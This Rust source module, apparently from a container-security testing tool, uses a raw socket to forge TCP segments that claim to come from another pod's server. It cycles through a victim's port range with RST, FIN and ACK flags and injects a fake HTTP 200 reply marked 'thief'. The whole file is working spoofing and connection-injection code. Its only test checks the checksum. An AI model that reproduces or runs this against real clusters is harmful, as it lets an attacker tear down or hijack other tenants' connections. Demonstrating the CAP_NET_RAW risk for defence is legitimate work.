//! Segments of other pods' connections, forged: what `CAP_NET_RAW` in a pod's namespace allows, which container runtimes grant.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::ops::RangeInclusive;
use std::time::{Duration, Instant};

use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use super::Deeds;

/// Lengths of the headers.
const IP: usize = 20;
const TCP: usize = 20;
/// What a forged answer says.
const ANSWER: &[u8] = b"HTTP/1.1 200 OK\r\nx-served-by: thief\r\ncontent-length: 0\r\n\r\n";
/// FIN, SYN, RST, ACK, and the combinations that a receiver looks at differently.
const FLAGS: [u8; 6] = [0x10, 0x18, 0x11, 0x14, 0x04, 0x12];

/// Sends segments that claim to come from `server`, to these ports of `victim` by turns, with numbers that follow from `seed`.
///
/// # Errors
/// If raw sockets are not to be had.
pub fn forge(
    victim: Ipv4Addr,
    ports: RangeInclusive<u16>,
    server: SocketAddrV4,
    seed: u64,
    length: Duration,
) -> io::Result<Deeds> {
    let socket = Socket::new(
        Domain::IPV4,
        Type::RAW,
        Some(Protocol::from(libc::IPPROTO_RAW)),
    )?;
    let to = SockAddr::from(SocketAddr::from((victim, 0)));
    let end = Instant::now() + length;
    let mut deeds = Deeds::default();
    let mut state = seed | 1;
    while Instant::now() < end {
        for port in ports.clone() {
            // xorshift64 (Marsaglia 2003)
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            let segment = segment(server, SocketAddrV4::new(victim, port), state);
            match socket.send_to(&segment, &to) {
                Ok(_) => deeds.made += 1,
                Err(_) => deeds.refused += 1,
            }
            if port % 512 == 0 && Instant::now() >= end {
                break;
            }
        }
    }
    Ok(deeds)
}

fn segment(from: SocketAddrV4, to: SocketAddrV4, random: u64) -> Vec<u8> {
    let flags = FLAGS[(random >> 8) as usize % FLAGS.len()];
    let data: &[u8] = if flags == 0x18 { ANSWER } else { &[] };
    let mut tcp = Vec::with_capacity(TCP + data.len());
    tcp.extend_from_slice(&from.port().to_be_bytes());
    tcp.extend_from_slice(&to.port().to_be_bytes());
    tcp.extend_from_slice(&((random >> 32) as u32).to_be_bytes());
    tcp.extend_from_slice(&(random as u32).to_be_bytes());
    tcp.extend_from_slice(&[((TCP / 4) << 4) as u8, flags, 0xff, 0xff, 0, 0, 0, 0]);
    tcp.extend_from_slice(data);
    let sum = checksum(from, to, &tcp);
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
    // The kernel fills in length, identification and checksum of a raw packet's IP header (raw(7)).
    let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, libc::IPPROTO_TCP as u8, 0, 0];
    packet.extend_from_slice(&from.ip().octets());
    packet.extend_from_slice(&to.ip().octets());
    debug_assert_eq!(packet.len(), IP);
    packet.extend_from_slice(&tcp);
    packet
}

/// Of a segment, with the pseudo header (RFC 9293 section 3.1).
fn checksum(from: SocketAddrV4, to: SocketAddrV4, tcp: &[u8]) -> u16 {
    let mut pseudo = Vec::with_capacity(12 + tcp.len() + 1);
    pseudo.extend_from_slice(&from.ip().octets());
    pseudo.extend_from_slice(&to.ip().octets());
    pseudo.extend_from_slice(&[0, libc::IPPROTO_TCP as u8]);
    pseudo.extend_from_slice(&(tcp.len() as u16).to_be_bytes());
    pseudo.extend_from_slice(tcp);
    let words = pseudo.chunks(2).map(|two| {
        let low = two.get(1).copied().unwrap_or(0);
        u32::from(u16::from_be_bytes([two[0], low]))
    });
    let mut sum: u32 = words.sum();
    while sum >> 16 != 0 {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_forged_segment_is_one_that_its_receiver_accepts() {
        let from = SocketAddrV4::new(Ipv4Addr::new(10, 0, 0, 1), 8080);
        let to = SocketAddrV4::new(Ipv4Addr::new(10, 0, 0, 2), 40_000);
        for random in [0, 1 << 8, u64::MAX] {
            let packet = segment(from, to, random);
            assert_eq!(packet[12..20], [10, 0, 0, 1, 10, 0, 0, 2]);
            // A checksum over what has the right checksum is nothing.
            assert_eq!(checksum(from, to, &packet[IP..]), 0);
        }
    }
}
